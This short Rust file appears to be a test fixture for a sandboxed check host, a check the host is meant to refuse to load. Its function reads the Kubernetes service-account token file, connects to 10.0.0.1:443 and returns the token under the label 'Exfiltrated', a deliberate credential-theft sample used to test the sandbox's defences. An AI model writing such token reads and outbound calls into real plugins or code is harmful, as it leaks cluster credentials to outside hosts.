//! A check that reaches for ambient authority: the filesystem and the network. The host must refuse to
//! load it, naming the imports it does not provide.

use preflight_guest::{Outcome, Request};

/// The check.
pub fn check(_request: Request) -> Outcome {
    let secrets = std::fs::read_to_string("/var/run/secrets/kubernetes.io/serviceaccount/token")
        .unwrap_or_default();
    match std::net::TcpStream::connect("10.0.0.1:443") {
        Ok(_) => Outcome::proceed().because("Exfiltrated", secrets),
        Err(_) => Outcome::block(),
    }
}

preflight_guest::check!(check);
